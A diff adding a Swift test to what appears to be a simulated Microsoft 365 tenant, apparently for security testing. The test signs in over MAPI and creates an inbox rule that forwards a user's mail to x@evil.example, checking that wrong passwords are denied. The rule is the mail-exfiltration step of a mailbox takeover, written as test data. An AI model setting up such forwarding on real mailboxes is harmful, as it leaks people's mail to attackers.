@@ -197,6 +197,31 @@ struct ControlPlaneTests {
         #expect(Self.errorCode(stranger) == "UnknownUser")
     }
 
+    @Test("a mailbox action signs in, then acts: an inbox rule created over MAPI is in the mailbox, denied attempts change nothing")
+    func mailboxAction() async throws {
+        let server = try await makeServer()
+        let host = try #require(server.tenant(Self.brittest))
+        let password = try #require(await host.perform { $0.session.tenant.user(upn: "adele@brittest.onmicrosoft.com")?.password })
+        let path = "/sim/v1/tenants/\(Self.brittest)/actions"
+        func act(_ password: String) async -> SimResponse {
+            await server.send("POST", path, json: .object(["mailboxAction": .object([
+                "user": "adele@brittest.onmicrosoft.com", "password": .string(password), "protocol": "MAPI", "clientIP": "203.0.113.7",
+                "action": "create-inbox-rule", "params": .object(["Name": "fwd", "ForwardTo": "x@evil.example"]),
+            ])]))
+        }
+        let denied = await act("not-her-password")
+        #expect(denied.json?["decision"]?["outcome"] == "Denied")
+        #expect(await host.perform { $0.session.tenant.inboxRules.contains { $0.name == "fwd" } } == false)
+
+        let allowed = await act(password)
+        #expect(allowed.json?["decision"]?["outcome"] == "Allowed")
+        #expect(allowed.json?["output"] == nil)
+        #expect(await host.perform { $0.session.tenant.inboxRules.contains { $0.name == "fwd" } })
+
+        let unknown = await server.send("POST", path, json: .object(["mailboxAction": .object(["user": "adele@brittest.onmicrosoft.com", "action": "teleport"])]))
+        #expect(unknown.json?["error"]?["member"] == "action")
+    }
+
     @Test("a 429 fault rule answers in the family's shape with Retry-After, and counts whether the client waited")
     func faultRetryAfter() async throws {
         let server = try await makeServer()
